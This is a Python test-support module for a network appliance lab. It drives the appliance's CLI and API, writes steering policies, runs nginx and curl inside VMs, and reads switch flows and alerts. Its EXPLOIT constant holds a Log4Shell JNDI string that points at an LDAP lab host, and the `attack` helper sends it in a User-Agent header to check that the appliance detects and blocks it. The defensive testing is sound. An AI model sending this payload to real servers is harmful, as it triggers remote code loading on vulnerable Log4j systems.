"""The whole appliance in a lab, as its operator and its VMs see it: CLI, API, and real programs."""

from __future__ import annotations

import http.client
import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

from appliance import lab as the_lab
from appliance.lab import LabState
from steering.run import Finished, run
from tests.support.lab import run_in_vm, wait_until

EXPLOIT = "${jndi:ldap://10.0.0.9:1389/a}"
EXPLOIT_SID = 4850001  # Log4Shell in a header
BLOCKED = 28  # curl(1): the time is up; what a silent drop looks like to the client

NGINX = """worker_processes 1;
error_log {directory}/error.log;
pid {directory}/nginx.pid;
daemon off;
events {{ worker_connections 256; }}
http {{
    access_log {directory}/access.log;
    client_body_temp_path {directory}/body;
    proxy_temp_path {directory}/proxy;
    fastcgi_temp_path {directory}/fastcgi;
    uwsgi_temp_path {directory}/uwsgi;
    scgi_temp_path {directory}/scgi;
    server {{
        listen [::]:80 ipv6only=off;
        root {directory}/www;
        error_page 405 =200 $uri;
        location / {{ try_files $uri /index.html; }}
    }}
}}
"""

# Sends pieces over one TCP connection; after each step reads one answer with a Content-Length, or
# notes null when none came. JSON in by the argument, JSON out.
TALK = r"""
import json, re, socket, sys, time
address, port, steps = json.loads(sys.argv[1])
answers = []
with socket.create_connection((address, port), 3) as peer:
    peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    peer.settimeout(1.5)
    for pieces in steps:
        for piece in pieces:
            peer.sendall(piece.encode())
            time.sleep(0.03)
        data = b""
        try:
            while True:
                head, found, body = data.partition(b"\r\n\r\n")
                length = re.search(rb"(?i)content-length: (\d+)", head)
                if found and length and len(body) >= int(length[1]):
                    break
                part = peer.recv(65536)
                if not part:
                    break
                data += part
        except OSError:
            pass
        answers.append(data.decode(errors="replace") or None)
print(json.dumps(answers))
"""


@dataclass(frozen=True)
class Answer:
    """One answer of the API; ``document`` is its JSON, or None."""

    status: int
    headers: dict[str, str]
    document: Any


def build_machine(lab: LabState, name: str, **tags: str) -> dict[str, Any]:
    """The VirtualMachine document of a VM of the lab, tagged with its tier."""
    vm = lab.vm(name)
    return {
        "apiVersion": "hairpin/v1",
        "kind": "VirtualMachine",
        "metadata": {"name": name},
        "spec": {"vmId": vm.vm_id, "tags": {"tier": vm.zone, **tags}},
    }


def build_zone(name: str) -> dict[str, Any]:
    return {
        "apiVersion": "hairpin/v1",
        "kind": "Zone",
        "metadata": {"name": name},
        "spec": {"selector": {"matchTags": {"tier": name}}},
    }


def build_policy(
    name: str,
    source: str,
    destination: str,
    action: dict[str, Any],
    *,
    priority: int = 100,
    services: Sequence[dict[str, Any]] = (),
) -> dict[str, Any]:
    """A SteeringPolicy; ``source`` and ``destination`` are zones, or VMs where they have a dash."""

    def peer(said: str) -> dict[str, str]:
        return {"vm" if "-" in said else "zone": said}

    return {
        "apiVersion": "hairpin/v1",
        "kind": "SteeringPolicy",
        "metadata": {"name": name},
        "spec": {
            "priority": priority,
            "from": [peer(source)],
            "to": [peer(destination)],
            **({"services": list(services)} if services else {}),
            "action": action,
        },
    }


def inspect(profile: str, on_failure: str = "closed") -> dict[str, Any]:
    return {"inspect": {"profile": profile, "onFailure": on_failure}}


def build_base(lab: LabState) -> list[dict[str, Any]]:
    """All VMs of the lab by name, and a zone for each tier."""
    machines = [build_machine(lab, vm.name) for vm in lab.vms]
    return [*machines, *(build_zone(zone) for zone in ("web", "app", "db"))]


def is_policy_flow(line: str) -> bool:
    """Whether a flow as `find_flows` prints it was compiled, not learned nor foreign."""
    return "cookie=0x4850" in line and not any(f"table={n}," in line for n in (90, 91))


@dataclass
class Appliance:
    """A lab with Hairpin running in it. ``directory`` is for the files of its servers."""

    lab: LabState
    directory: Path
    roles: list[str] = field(default_factory=list)

    # The operator

    def start_cli(self, *args: str) -> subprocess.Popen[str]:
        """`hairpin ARGS` in the background, its output to be read line by line."""
        return subprocess.Popen(
            [sys.executable, "-u", "-m", "appliance.cli", *args],
            env={**os.environ, **self._environment()},
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )

    def cli(self, *args: str, timeout: float = 60) -> Finished:
        argv = [sys.executable, "-m", "appliance.cli", *args]
        return run(argv, check=False, timeout=timeout, env=self._environment())

    def read(self, *args: str) -> Any:
        """What a reading command says with --json. Fails the test if it fails."""
        done = self.cli(*args, "--json")
        assert done.status == 0, done.stderr
        return json.loads(done.stdout)

    def _environment(self) -> dict[str, str]:
        return {
            "HAIRPIN_URL": self.lab.url,
            "HAIRPIN_TOKEN_FILE": str(self.lab.token_file),
            "PYTHONPATH": str(Path(__file__).resolve().parents[2]),
        }

    @property
    def token(self) -> str:
        return self.lab.token_file.read_text().strip()

    def api(
        self,
        path: str,
        method: str = "GET",
        document: Any = None,
        *,
        token: str | None = "",
        base: str = "/api/v1",
        **headers: str,
    ) -> Answer:
        """One request below ``base``. ``token`` "": the right one; None: none."""
        peer = http.client.HTTPConnection("127.0.0.1", self.lab.api_port, timeout=20)
        sent = {name.replace("_", "-"): value for name, value in headers.items()}
        if token is not None:
            sent["Authorization"] = f"Bearer {token or self.token}"
        body = None
        if document is not None:
            body, sent["Content-Type"] = json.dumps(document), "application/json"
        try:
            peer.request(method, f"{base}{path}", body, sent)
            answer = peer.getresponse()
            text = answer.read()
        finally:
            peer.close()
        plain = not answer.headers.get_content_type().endswith("json")
        found = text.decode() if plain else json.loads(text) if text else None
        return Answer(answer.status, {k.lower(): v for k, v in answer.headers.items()}, found)

    def is_ready(self) -> bool:
        try:
            return self.api("/live", token=None).status == 200
        except OSError:
            return False

    def write(self, documents: Sequence[dict[str, Any]], name: str = "policies.yaml") -> Path:
        self.directory.mkdir(parents=True, exist_ok=True)
        path = self.directory / name
        path.write_text(yaml.safe_dump_all(documents))
        return path

    def apply(self, documents: Sequence[dict[str, Any]]) -> dict[str, Any]:
        """Put these documents in force, by the CLI."""
        path = str(self.write(documents))
        done = self.cli("policy", "apply", path, "--json")
        assert done.status == 0, done.stderr
        report: dict[str, Any] = json.loads(done.stdout)
        return report

    def put(self, documents: Sequence[dict[str, Any]], query: str = "", **headers: str) -> Answer:
        """Put these documents in force, or try to, by the API; ``If_Match="*"`` unless given."""
        listed = {"apiVersion": "hairpin/v1", "kind": "List", "items": list(documents)}
        return self.api(f"/policies{query}", "PUT", listed, **{"If_Match": "*", **headers})

    def find_vm(self, name: str) -> dict[str, Any] | None:
        found = self.api("/vms").document["items"]
        vm_id = next((vm.vm_id for vm in self.lab.vms if vm.name == name), None)
        return next((vm for vm in found if name == vm["name"] or vm["vmId"] == vm_id), None)

    # Alerts and events

    def find_latest_alert(self) -> int:
        items = self.api("/alerts?limit=1").document["items"]
        return items[0]["id"] if items else 0

    def find_alerts(self, after: int, query: str = "") -> list[dict[str, Any]]:
        """The alerts newer than ``after``, oldest first."""
        items = self.api(f"/alerts?limit=1000{query}").document["items"]
        return [item for item in reversed(items) if item["id"] > after]

    def wait_alerts(
        self, after: int, count: int = 1, query: str = "", seconds: float = 10
    ) -> list[dict[str, Any]]:
        """The alerts newer than ``after``, when there are ``count``. Fails the test if not."""
        found: list[dict[str, Any]] = []

        def there() -> bool:
            found[:] = self.find_alerts(after, query)
            return len(found) >= count

        assert wait_until(there, seconds), f"{len(found)} of {count} alerts came: {found}"
        return found

    def find_events(self, kind: str, since: float) -> list[dict[str, Any]]:
        """Events of that kind after ``since`` (seconds since the epoch), newest first."""
        moment = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(since)) + f".{since % 1:.6f}"[2:]
        items: list[dict[str, Any]] = self.api(f"/events?kind={kind}&since={moment}Z").document[
            "items"
        ]
        return items

    # The VMs

    def run(self, vm: str, *argv: str, timeout: float = 30) -> Finished:
        return run_in_vm(self.lab, vm, *argv, timeout=timeout)

    def start(self, vm: str, *argv: str, role: str = "") -> str:
        self.lab, role = the_lab.start_in_vm(self.lab, vm, argv, role=role)
        self.roles.append(role)
        return role

    def start_web(self, *vms: str) -> None:
        """nginx in each of these VMs, on port 80; it answers every path with the VM's name."""
        for vm in vms:
            directory = self.directory / f"nginx-{vm}"
            (directory / "www").mkdir(parents=True)
            (directory / "www/index.html").write_text(f"hello from {vm}\n")
            for above in (directory, *directory.parents):
                if above.is_relative_to("/tmp") and above != Path("/tmp"):
                    above.chmod(0o755)  # nginx drops its rights
            (directory / "nginx.conf").write_text(NGINX.format(directory=directory))
            self.start(vm, "nginx", "-p", str(directory), "-c", str(directory / "nginx.conf"),
                       "-e", str(directory / "error.log"))  # fmt: skip
        for vm in vms:
            ask = ("curl", "-s", "-m1", "http://127.0.0.1/")
            assert wait_until(lambda vm=vm, ask=ask: self.run(vm, *ask).status == 0, 5), vm

    def read_requests(self, vm: str) -> str:
        """What a VM's nginx says it was asked for."""
        return (self.directory / f"nginx-{vm}" / "access.log").read_text()

    def address(self, vm: str, family: int = 4) -> str:
        return self.lab.vm(vm).address4 if family == 4 else self.lab.vm(vm).address6

    def curl(
        self, source: str, destination: str, *options: str, family: int = 4, path: str = "/"
    ) -> Finished:
        """curl between two VMs; its status is 0 when an answer came, 28 when none did in time."""
        address = self.address(destination, family)
        host = f"[{address}]" if family == 6 else address
        return self.run(source, "curl", "-gsS", "-m", "5", *options, f"http://{host}{path}")

    def attack(
        self, source: str, destination: str, *options: str, family: int = 4, path: str = "/"
    ) -> Finished:
        """As `curl`, with Log4Shell in the User-Agent."""
        options = ("-A", EXPLOIT, "-m", "1.2", *options)
        return self.curl(source, destination, *options, family=family, path=path)

    def talk(
        self, source: str, address: str, *steps: Sequence[str], port: int = 80
    ) -> list[str | None]:
        """Send each step's pieces, each a TCP segment, on one connection; the answer to each step."""
        request = json.dumps([address, port, [list(step) for step in steps]])
        done = self.run(source, sys.executable, "-c", TALK, request)
        assert done.status == 0, done.stderr
        found: list[str | None] = json.loads(done.stdout)
        return found

    @contextmanager
    def pinging(self, source: str, destination: str, *options: str) -> Iterator[dict[str, int]]:
        """Ping each 10 ms meanwhile; afterwards the dict has ``sent`` and ``received``."""
        argv = self.lab.netns_argv(
            source, ["ping", "-n", "-q", "-i", "0.01", *options, self.address(destination)]
        )
        found: dict[str, int] = {}
        with subprocess.Popen(argv, stdout=subprocess.PIPE, text=True) as child:
            try:
                yield found
            finally:
                child.send_signal(2)
                said = child.communicate(timeout=10)[0]
        words = next(line for line in said.splitlines() if "transmitted" in line).split()
        found["sent"], found["received"] = int(words[0]), int(words[3])

    # The switch

    def find_policy_flows(self) -> list[str]:
        """Our compiled flows, as `ovs-ofctl dump-flows --no-stats` prints them, sorted."""
        return sorted(filter(is_policy_flow, the_lab.find_flows(self.lab)))

    def find_port_flows(self, ofport: int) -> list[str]:
        """Those of a VM's port."""
        return [one for one in self.find_policy_flows() if f"cookie=0x48500100{ofport:08x}" in one]

    def find_groups(self) -> list[str]:
        shown = run(self.lab.ofctl_argv(["dump-groups"])).stdout
        return sorted(line.strip() for line in shown.splitlines() if "group_id" in line)

    def read_switch(self) -> tuple[list[str], list[str]]:
        return self.find_policy_flows(), self.find_groups()

    def ofctl(self, *args: str) -> str:
        return run(self.lab.ofctl_argv(args)).stdout

    def trace(self, flow: str, *options: str) -> str:
        """`ofproto/trace` of one packet through the bridge."""
        argv = ["ovs-appctl", "-t", str(self.lab.vswitchd), "ofproto/trace", *options]
        return run([*argv, "br-int", flow]).stdout

    def is_forwarding(self, profile: str) -> bool:
        """Whether BFD passes through both legs of a lane."""
        lane = next(one for one in self.lab.lanes if one.profile == profile)
        legs = the_lab.find_forwarding_legs(self.lab)
        return legs.get(lane.leg_a, False) and legs.get(lane.leg_b, False)

    def stop_all(self) -> None:
        """End what was started in VMs, and take every policy back."""
        for role in self.roles:
            self.lab = the_lab.stop_process(self.lab, role)
        self.roles.clear()
        assert self.put([]).status == 200


class Lines:
    """The lines that a process prints, as they come."""

    def __init__(self, process: subprocess.Popen[str]) -> None:
        self.lines: list[str] = []
        self.process = process
        self._thread = threading.Thread(target=self._read, daemon=True)
        self._thread.start()

    def _read(self) -> None:
        assert self.process.stdout is not None
        for line in self.process.stdout:
            self.lines.append(line.rstrip("\n"))

    def end(self) -> None:
        self.process.send_signal(2)
        try:
            self.process.wait(5)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait(5)
        self._thread.join(5)
